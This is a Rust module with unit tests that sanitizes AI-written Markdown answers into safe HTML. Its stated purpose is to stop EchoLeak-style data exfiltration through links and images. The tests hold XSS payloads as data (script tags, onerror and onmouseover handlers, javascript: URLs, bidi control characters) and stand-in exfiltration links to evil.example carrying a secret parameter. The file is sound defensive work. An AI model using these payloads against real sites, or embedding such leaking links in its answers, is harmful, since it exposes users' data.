//! Answers as HTML. What a model wrote is not trusted: no raw HTML, no picture is loaded, and a link shows the address to which it
//! leads beside its words, because both can carry away what the house knows (THREATS.md 3.4, EchoLeak).

use hearth_domain::message::is_harmful;
use maud::{Markup, PreEscaped, html};
use pulldown_cmark::{Alignment, CowStr, Event, Options, Parser, Tag, TagEnd};

/// Addresses that a link may have; any other stays text.
const SCHEMES: [&str; 3] = ["http://", "https://", "mailto:"];

/// Renders an answer.
pub(crate) fn render(text: &str) -> Markup {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut tame = Tame::default();
    let events = Parser::new_ext(text, options).flat_map(|event| tame.tame(event));
    let mut out = String::with_capacity(text.len().saturating_mul(2));
    pulldown_cmark::html::push_html(&mut out, events);
    // Last of all, since an entity becomes its letter only while it is rendered.
    PreEscaped(visible(&out))
}

/// Text in which nothing hides: controls (but for newline and tab), and letters that turn the direction of what follows, by which it
/// would show as what it is not, are shown as the sign for what cannot be shown.
pub(crate) fn visible(text: &str) -> String {
    text.replace("\r\n", "\n").chars().map(|letter| if is_harmful(letter) { char::REPLACEMENT_CHARACTER } else { letter }).collect()
}

/// A link or picture whose words are being read.
#[derive(Debug)]
struct Target {
    address: String,
    words: String,
    picture: bool,
}

/// Turns events into harmless ones.
#[derive(Debug, Default)]
struct Tame {
    targets: Vec<Target>,
}

impl Tame {
    fn tame<'a>(&mut self, event: Event<'a>) -> Vec<Event<'a>> {
        match event {
            Event::Html(raw) | Event::InlineHtml(raw) => vec![self.words(raw)],
            Event::Text(words) => vec![self.words(words)],
            Event::Code(words) => {
                self.note(&words);
                vec![Event::Code(words)]
            }
            // As a person in a chat means it.
            Event::SoftBreak => vec![Event::HardBreak],
            Event::Start(Tag::HtmlBlock) => vec![Event::Start(Tag::Paragraph)],
            Event::End(TagEnd::HtmlBlock) => vec![Event::End(TagEnd::Paragraph)],
            // Alignment would be an inline style.
            Event::Start(Tag::Table(columns)) => vec![Event::Start(Tag::Table(vec![Alignment::None; columns.len()]))],
            Event::Start(Tag::Link { dest_url, .. }) => self.begin(&dest_url, false),
            Event::Start(Tag::Image { dest_url, .. }) => self.begin(&dest_url, true),
            Event::End(TagEnd::Link | TagEnd::Image) => self.end(),
            kept @ (Event::Start(_)
            | Event::End(_)
            | Event::InlineMath(_)
            | Event::DisplayMath(_)
            | Event::FootnoteReference(_)
            | Event::HardBreak
            | Event::Rule
            | Event::TaskListMarker(_)) => vec![kept],
        }
    }

    fn words<'a>(&mut self, words: CowStr<'a>) -> Event<'a> {
        self.note(&words);
        Event::Text(words)
    }

    fn note(&mut self, words: &str) {
        if let Some(target) = self.targets.last_mut() {
            target.words.push_str(words);
        }
    }

    fn begin<'a>(&mut self, address: &str, picture: bool) -> Vec<Event<'a>> {
        self.targets.push(Target { address: plain(address), words: String::new(), picture });
        if picture { vec![Event::Text("[picture: ".into())] } else { Vec::new() }
    }

    fn end<'a>(&mut self) -> Vec<Event<'a>> {
        let Some(target) = self.targets.pop() else {
            return Vec::new();
        };
        let mut events = Vec::new();
        if target.picture {
            events.push(Event::Text("]".into()));
        }
        if target.address.is_empty() {
            return events;
        }
        // The words were said as text already; when they are the address itself, once is enough.
        let repeated = target.words.trim() == target.address || format!("mailto:{}", target.words.trim()) == target.address;
        events.push(Event::InlineHtml(anchor(&target.address, repeated).into_string().into()));
        events
    }
}

fn anchor(address: &str, repeated: bool) -> Markup {
    let lower = address.to_ascii_lowercase();
    let allowed = SCHEMES.iter().any(|scheme| lower.starts_with(scheme));
    html! {
        @if !allowed { @if !repeated { " (" (address) ")" } }
        @else {
            " "
            a href=(address) rel="noopener noreferrer nofollow" target="_blank" {
                @if repeated { "open" } @else { (address) }
            }
        }
    }
}

/// An address in which nothing hides: characters beyond ASCII, blanks and controls are percent-encoded.
fn plain(address: &str) -> String {
    let mut out = String::with_capacity(address.len());
    for byte in address.trim().bytes() {
        if byte.is_ascii_graphic() {
            out.push(char::from(byte));
        } else {
            out.push_str(&format!("%{byte:02X}"));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rendered(text: &str) -> String {
        render(text).into_string()
    }

    #[test]
    fn ordinary_markdown_is_rendered() {
        let html = rendered("# Hi\n\n*a* **b** `c`\n\n- one\n- two\n\n| x |\n|--:|\n| 1 |\n");
        for part in ["<h1>Hi</h1>", "<em>a</em>", "<strong>b</strong>", "<code>c</code>", "<li>one</li>", "<td>1</td>"] {
            assert!(html.contains(part), "{part} in {html}");
        }
        assert!(!html.contains("style="), "{html}");
    }

    #[test]
    fn lines_stay_lines() {
        assert_eq!(rendered("one\ntwo"), "<p>one<br />\ntwo</p>\n");
    }

    #[test]
    fn raw_html_is_text() {
        for attack in [
            "<script>alert(1)</script>",
            "a <img src=x onerror=alert(1)> b",
            "<div onclick='x'>\n\n<svg/onload=alert(1)>",
            "[<img src=x onerror=alert(1)>](https://a.example)",
            "![<script>x</script>](https://a.example)",
            "`<b>` <!-- x --> <?php ?> <![CDATA[x]]>",
            "```<script>\nx\n```",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
        ] {
            let html = rendered(attack).to_lowercase();
            for tag in ["<script", "<img", "<svg", "<div", "<b>", "<!--", "<?", "<!["] {
                assert!(!html.contains(tag), "{attack}: {html}");
            }
        }
    }

    #[test]
    fn links_of_other_schemes_are_text() {
        for attack in [
            "[a](javascript:alert(1))",
            "[a](JAVASCRIPT:alert(1))",
            "[a](data:text/html,x)",
            "<javascript:alert(1)>",
            "[a](vbscript:x)",
            "[a](//b)",
            "[a](/logout)",
        ] {
            assert!(!rendered(attack).contains("<a "), "{attack}: {}", rendered(attack));
        }
    }

    #[test]
    fn a_link_shows_where_it_leads_and_tells_nobody_where_it_was() {
        let html = rendered("[our bank](https://evil.example/?d=secret \"title\")");
        assert!(html.contains("our bank"), "{html}");
        assert!(html.contains(r#"<a href="https://evil.example/?d=secret" rel="noopener noreferrer nofollow" target="_blank">https://evil.example/?d=secret</a>"#), "{html}");
    }

    #[test]
    fn an_address_cannot_break_out_of_its_attribute() {
        let html = rendered("[a](<https://x.example/\"onmouseover=alert(1) x=\"\u{202e}>)");
        assert!(html.contains("&quot;onmouseover") && !html.contains('\u{202e}'), "{html}");
    }

    #[test]
    fn nothing_hides_in_an_answer() {
        for letter in ['\u{1b}', '\u{7f}', '\u{9b}', '\u{61c}', '\u{200e}', '\u{200f}', '\u{202a}', '\u{202e}', '\u{2066}', '\u{2069}'] {
            for text in [
                format!("pay {letter}Bob"),
                format!("pay `{letter}Bob`"),
                format!("```\npay {letter}Bob\n```"),
                format!("[pay {letter}Bob](https://x.example)"),
                format!("pay &#x{:x};Bob", u32::from(letter)),
            ] {
                let html = rendered(&text);
                assert!(!html.contains(letter) && html.contains("Bob"), "{text:?}: {html}");
            }
            assert!(rendered(&format!("pay {letter}Bob")).contains("pay \u{fffd}Bob"));
        }
        let family = "one\n\ttwo \u{1f468}\u{200d}\u{1f373}";
        assert_eq!(rendered(&format!("```\n{family}\n```")), format!("<pre><code>{family}\n</code></pre>\n"));
        assert_eq!(rendered("one\r\ntwo"), "<p>one<br />\ntwo</p>\n");
    }

    #[test]
    fn pictures_are_not_loaded() {
        let html = rendered("![holiday](https://evil.example/p.png?d=secret)");
        assert!(html.contains("[picture: holiday]") && !html.contains("<img"), "{html}");
        assert!(html.contains(r#"rel="noopener noreferrer nofollow""#));
    }

    #[test]
    fn any_text_renders() {
        for text in [
            "",
            "[",
            "![](",
            "[a](b",
            "> ".repeat(2_000).as_str(),
            "*".repeat(10_000).as_str(),
            "[".repeat(10_000).as_str(),
            "\u{0}\u{feff}",
        ] {
            let _ = rendered(text);
        }
    }
}
